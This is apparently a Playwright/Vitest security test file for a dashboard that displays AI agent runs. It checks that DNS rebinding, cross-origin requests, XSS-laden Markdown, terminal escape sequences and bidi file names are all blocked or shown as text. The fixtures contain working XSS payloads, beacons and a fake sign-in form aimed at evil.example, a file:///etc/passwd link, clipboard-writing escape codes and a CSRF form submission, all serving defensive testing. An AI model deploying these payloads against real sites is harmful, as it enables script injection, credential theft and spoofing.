/** Tests hostile pages and hostile agent output in a real browser. */

import { readFile, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { chromium, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { RunEvent } from '../../src/formats/events/events.ts';
import { replaceJson } from '../../src/formats/read-and-write-files.ts';
import { ASKING, BUILDING, CHROMIUM, cannotRun, openSite, READY, type Site } from './pages-server.ts';

const WAIT = { timeout: 120_000 };
const DARK = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

/** If any of this is executed, it sets the title, requests something from evil.example or adds an element. */
const MARKUP = `<script>document.title='taken'</script>
<img src="https://evil.example/a.png" onerror="document.title='taken'">
<svg onload="document.title='taken'"><a href="javascript:document.title='taken'">svg</a></svg>
<iframe srcdoc="<script>parent.document.title='taken'</script>"></iframe>
<form action="https://evil.example/"><input name="token"><button>Sign in</button></form>
<style>@import url(https://evil.example/a.css); body { display: none }</style>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<object data="https://evil.example/a.swf"></object><a id="content" name="page">clobbered</a>

![beacon](https://evil.example/b.png) ![inline](data:image/svg+xml;base64,PHN2Zy8+)
[one](javascript:document.title='taken') [two](JaVaScRiPt&#58;document.title='taken') [three](data:text/html,<script>alert(1)</script>)
[four](vbscript:x) [five](file:///etc/passwd) <javascript:document.title='taken'> [six]: //evil.example
[seven](https://evil.example/link "title")
`;
const SEQUENCES =
  'say \u001b]0;taken\u0007\u001b]52;c;ZXZpbA==\u0007\u001b[2J\u001b[2147483647L\u009b31m\u202etxt.exe\u2066 \u001b]8;;https://evil.example\u001b\\link\u001b]8;;\u001b\\ and done';

const waits: RunEvent = {
  at: new Date().toISOString(),
  type: 'agent.waits',
  agent: 'builder',
  step: 'build',
  launch: 3,
  until: new Date(Date.now() + 60_000).toISOString(),
  message: SEQUENCES,
};

describe.skipIf(cannotRun)('hostile input', () => {
  let site: Site;
  let stranger: Server;
  beforeAll(async () => {
    site = await openSite();
    stranger = createServer((_req, res) => {
      res.setHeader('content-type', 'text/html');
      res.end('<!doctype html><title>a page of others</title><p>hello</p>');
    });
    await new Promise<void>(resolve => stranger.listen(0, '127.0.0.1', resolve));
  });
  afterAll(async () => {
    stranger?.close();
    await site?.close();
  });

  it('S2 a request to a rebound host name gets no page and reaches neither the API nor the socket', async () => {
    const browser = await chromium.launch({
      executablePath: CHROMIUM,
      args: ['--no-sandbox', '--host-resolver-rules=MAP evil.example 127.0.0.1'],
    });
    try {
      const page = await browser.newPage();
      const rebound = site.url.replace('127.0.0.1', 'evil.example');
      const answer = await page.goto(rebound);
      expect(answer?.status()).toBe(421);
      expect(await page.locator('script').count()).toBe(0);
      // The page is on the rebound origin, so the browser treats all of this as same-origin.
      const got = await page.evaluate(`Promise.all([
        fetch('/api/runs').then(r => r.status),
        fetch('/api/session', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"code":"x"}' }).then(r => r.status),
        fetch('/health').then(r => r.status),
        new Promise(done => {
          const socket = new WebSocket('${rebound.replace('http', 'ws')}/socket.io/?EIO=4&transport=websocket');
          socket.onopen = () => done('open');
          socket.onerror = () => done('refused');
        }),
      ])`);
      expect(got).toEqual([421, 421, 421, 'refused']);
    } finally {
      await browser.close();
    }
  });

  it('S6 S7 S8 a page from another origin cannot read, write, open a socket or frame the pages', async () => {
    const context = await site.stranger();
    const page = await context.newPage();
    await page.goto(`http://127.0.0.1:${(stranger.address() as AddressInfo).port}/`);
    const before = site.started.length;
    const got = await page.evaluate(`(async () => {
      const url = '${site.url}';
      const state = promise => promise.then(() => 'through', () => 'blocked');
      const read = await state(fetch(url + '/api/overview'));
      const simple = await fetch(url + '/api/runs', { method: 'POST', mode: 'no-cors', body: '{"briefing":"evil"}' }).then(r => r.type, () => 'blocked');
      const asked = await state(fetch(url + '/api/runs', { method: 'POST', headers: { 'content-type': 'application/json', authorization: 'Bearer x' }, body: '{"briefing":"evil"}' }));
      const form = document.createElement('form');
      form.action = url + '/api/runs'; form.method = 'post'; form.enctype = 'text/plain'; form.target = 'hidden';
      form.innerHTML = '<input name=\\'{"briefing":"\\' value=\\'evil"}\\'>';
      const frame = document.createElement('iframe');
      frame.name = 'hidden';
      document.body.append(frame, form);
      form.submit();
      await new Promise(done => { frame.onload = done; });
      const script = await new Promise(done => {
        const tag = document.createElement('script');
        tag.src = url + '/health'; tag.onload = () => done('through'); tag.onerror = () => done('blocked');
        document.body.append(tag);
      });
      const socket = await new Promise(done => {
        const ws = new WebSocket(url.replace('http', 'ws') + '/socket.io/?EIO=4&transport=websocket');
        ws.onopen = () => done('through'); ws.onerror = () => done('blocked');
      });
      return { read, simple, asked, script, socket };
    })()`);
    expect(got).toEqual({
      read: 'blocked',
      simple: 'opaque',
      asked: 'blocked',
      script: 'blocked',
      socket: 'blocked',
    });
    expect(site.started).toHaveLength(before);
    await page.evaluate(
      `document.body.append(Object.assign(document.createElement('iframe'), { name: 'framed', src: '${site.url}/' }))`,
    );
    await expect
      .poll(() => page.frame({ name: 'framed' })?.url() ?? '', WAIT)
      .toMatch(/^(chrome-error:|http)/);
    expect(await page.frame({ name: 'framed' })!.locator('h1').count()).toBe(0);
    await context.close();
  });

  /** Opens a page. Checks that nothing ran, nothing was fetched and no element was injected. */
  const harmless = async (
    path: string,
    ready: (page: Page) => Promise<void>,
    /** What it shows once all details are open. */
    shows: readonly string[] = [],
  ): Promise<void> => {
    const { page, complaints, context, go } = await site.visitor();
    let dialogs = 0;
    page.on('dialog', dialog => {
      dialogs += 1;
      void dialog.dismiss();
    });
    await go(path);
    await ready(page);
    await page.waitForLoadState('networkidle');
    await page.evaluate('for (const more of document.querySelectorAll("main details")) more.open = true');
    await page.waitForLoadState('networkidle');
    for (const part of shows) await expect.poll(() => page.locator('main').innerText(), WAIT).toContain(part);
    const text = await page.locator('main').innerText();
    expect(text).not.toMatch(DARK);
    expect(await page.title()).not.toContain('taken');
    expect(dialogs).toBe(0);
    expect(complaints).toEqual([]);
    expect(page.url()).toBe(site.url + path);
    expect(
      await page
        .locator('main')
        .locator(
          'script, img, svg a, iframe, object, embed, style, base, meta, form[action], [name="token"], [id="content"]',
        )
        .count(),
    ).toBe(0);
    const links = (await page.evaluate(
      '[...document.querySelectorAll("main a")].map(a => a.getAttribute("href"))',
    )) as string[];
    for (const href of links) expect(href).toMatch(/^(\/|https:\/\/evil\.example\/link$)/);
    for (const target of await page.locator('main a[href^="http"]').all())
      expect(await target.getAttribute('rel')).toBe('noreferrer noopener');
    await context.close();
  };

  it('S15 hostile Markdown in the briefing and the summary is shown as text and fetches nothing', async () => {
    await writeFile(site.files(READY).summary, `${MARKUP}\n${SEQUENCES}\n`);
    await site.recordPack(READY);
    await harmless(
      `/run/${READY}/mrp`,
      async page => {
        await page.getByText('The whole pack').click();
        await page.getByText('[beacon]').waitFor(WAIT);
      },
      ['and done'],
    );
    await writeFile(site.files(BUILDING).raw, `# <b>Bold</b> ${SEQUENCES}\n\n${MARKUP}`);
    await writeFile(site.files(BUILDING).refined, `${MARKUP}\n${SEQUENCES}`);
    await harmless(`/run/${BUILDING}`, page => page.getByText('Refined briefing').waitFor(WAIT), [
      '[beacon]',
    ]);
    // Titles are reread when a run changes.
    await site.tell(BUILDING, waits);
    await harmless('/', page => page.getByText('<b>Bold</b>').waitFor(WAIT));
  });

  it('S15 hostile text in a question is shown as text: title, labels, risks and context', async () => {
    await replaceJson(site.files(ASKING).crp('crp-001'), {
      crp_id: 'crp-001',
      created_by: 'refiner',
      type: 'security',
      question: `Which? ${MARKUP.split('\n')[0]} ${SEQUENCES}`,
      context: `${MARKUP}\n${SEQUENCES}`,
      options: [
        { id: 'a', label: `<img src=x onerror="document.title='taken'"> ${SEQUENCES}`, description: MARKUP },
        {
          id: 'b',
          label: `</label></form><a href="javascript:document.title='taken'">b</a>`,
          risk: MARKUP.slice(0, 900),
        },
      ],
      recommendation: 'a',
      status: 'pending',
    });
    await harmless(`/run/${ASKING}/crp/crp-001`, page => page.getByRole('radio').first().waitFor(WAIT), [
      '</label></form>',
      '<img src=x onerror=',
    ]);
  });

  it('S14 terminal sequences are removed from output, test logs and events, even in the raw view', async () => {
    const event = JSON.stringify({
      type: 'assistant',
      message: { content: [{ type: 'text', text: SEQUENCES }] },
    });
    await writeFile(site.files(BUILDING).stream('builder', 3), `${SEQUENCES}\n${event}\n`);
    await site.tell(BUILDING, waits);
    await harmless(
      `/run/${BUILDING}`,
      async page => {
        const log = page.getByRole('log', { name: /Builder/ });
        await log.getByText('and done').first().waitFor(WAIT);
        await page
          .getByRole('region', { name: /Builder/ })
          .getByRole('button', { name: 'Raw' })
          .click();
        await log.getByText('{"type":"assistant"').waitFor(WAIT);
      },
      ['txt.exe'],
    );
    await writeFile(site.files(READY).testLog, `${SEQUENCES}\n<b>not bold</b>\n`);
    await harmless(`/run/${READY}/mrp`, page => page.getByText('Test log').waitFor(WAIT), [
      '<b>not bold</b>',
    ]);
  });

  it('S14 bidirectional and line-break characters in file names are escaped in the file list and in the heading of each file', async () => {
    const file = (name: string) =>
      `diff --git ${name.replace('X', 'a')} ${name.replace('X', 'b')}\nnew file mode 100644\n--- /dev/null\n+++ ${name.replace('X', 'b')}\n@@ -0,0 +1 @@\n+x\n`;
    const before = await readFile(site.files(READY).patch);
    await writeFile(
      site.files(READY).patch,
      `${file('"X/src_\\342\\200\\256sj.tset"')}${file('"X/one\\n## Tests"')}`,
    );
    await site.recordPack(READY);
    try {
      const { page, context, go } = await site.visitor();
      await go(`/run/${READY}/mrp`);
      for (const name of ['src_⟨U+202E⟩sj.tset', 'one⟨U+000A⟩## Tests']) {
        await page.getByRole('heading', { name, exact: true }).waitFor(WAIT);
        await page.getByRole('button', { name }).first().waitFor(WAIT);
      }
      await context.close();
    } finally {
      await writeFile(site.files(READY).patch, before);
      await site.recordPack(READY);
    }
  });
});
